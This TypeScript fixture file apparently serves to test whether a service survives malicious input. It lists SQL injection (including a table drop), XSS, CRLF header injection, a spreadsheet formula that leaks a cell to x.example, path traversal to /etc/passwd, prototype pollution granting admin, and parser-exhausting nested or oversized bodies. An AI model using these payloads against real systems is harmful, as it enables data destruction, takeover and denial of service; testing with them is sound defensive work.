// Values that break programs which trust their input, as JSON text so that even what JavaScript would not write itself
// (a key named __proto__, a lone surrogate, a number beyond all numbers) arrives as it is.

export interface Attack {
  readonly name: string;
  /** JSON text of the value. */
  readonly json: string;
  /** The text when it is one. */
  readonly text?: string;
}

function text(name: string, value: string): Attack {
  return { name, json: JSON.stringify(value), text: value };
}

function json(name: string, value: string): Attack {
  return { name, json: value };
}

export const texts: readonly Attack[] = [
  text("SQL", "'; drop table vault.record_account; --"),
  text("SQL with a comment", `") or 1=1 /* $1 %s \\' */ union select tag from vault.device`),
  text("a script", `<script>alert(1)</script><img src=x onerror="alert(1)">`),
  text("a NUL", "before\u0000after"),
  text("a lone surrogate", "before\ud800after"),
  text("marks of direction", "\u202egnirts\u202c \u2066x\u2069 \u200f"),
  text("a formula", '=HYPERLINK("http://x.example?"&A1)'),
  text("a header", "x\r\nset-cookie: a=b"),
  text("__proto__", "__proto__"),
  text("a template", "${7*7}{{7*7}}%00../../../../etc/passwd"),
];

export const longText = text("a million characters", "长".repeat(300_000) + "x".repeat(100_000));

export const wrongTypes: readonly Attack[] = [
  json("null", "null"),
  json("true", "true"),
  json("a number beyond all", "1e400"),
  json("a number beyond whole ones", "9007199254740993.5"),
  json("a negative number", "-1"),
  json("an empty list", "[]"),
  json("a list of lists", `[[["x"]],{"a":[1]}]`),
  json("an empty object", "{}"),
  json("a prototype", `{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}`),
  json("two members of one name", `{"a":1,"a":{"b":2}}`),
  json("deep lists", `${"[".repeat(20_000)}1${"]".repeat(20_000)}`),
];

/** Bodies that are no JSON, or no object. */
export const brokenBodies: readonly { readonly name: string; readonly bytes: Uint8Array<ArrayBuffer> }[] = [
  { name: "nothing", bytes: new Uint8Array(0) },
  { name: "half an object", bytes: encoded(`{"a":`) },
  { name: "two values", bytes: encoded("{}{}") },
  { name: "null", bytes: encoded("null") },
  { name: "a list", bytes: encoded("[1,2]") },
  { name: "a text", bytes: encoded(`"text"`) },
  { name: "bytes that are no UTF-8", bytes: new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]) },
  { name: "UTF-16", bytes: new Uint8Array(Buffer.from("{}", "utf16le")) },
  { name: "half a million brackets", bytes: encoded("[".repeat(500_000)) },
  { name: "deep filters", bytes: encoded(`${`{"filter":{"all":[`.slice(0, -1)}${`[{"all":`.repeat(60_000)}`) },
  { name: "deep objects", bytes: encoded(`{"values":${`{"a":`.repeat(100_000)}1${"}".repeat(100_000)}}`) },
  { name: "more than a mebibyte", bytes: encoded(`{"a":"${"x".repeat(1024 * 1024)}"}`) },
];

/** Whole bodies as deep as JSON can be, for the places of our forms that hold themselves. */
export function deepFilter(depth: number): string {
  return `{"filter":${`{"all":[`.repeat(depth)}{"field":"name","op":"empty"}${"]}".repeat(depth)}}`;
}

export function encoded(value: string): Uint8Array<ArrayBuffer> {
  return new TextEncoder().encode(value);
}

const placeholder = "\u0001here\u0001";

/** The JSON of a body made by `put` with the attack at its place, also where it is the name of a member. */
export function jsonWith(put: (value: unknown) => unknown, attack: Attack): string {
  const mark = JSON.stringify(placeholder);
  return JSON.stringify(put(placeholder)).replace(mark, () => attack.json);
}
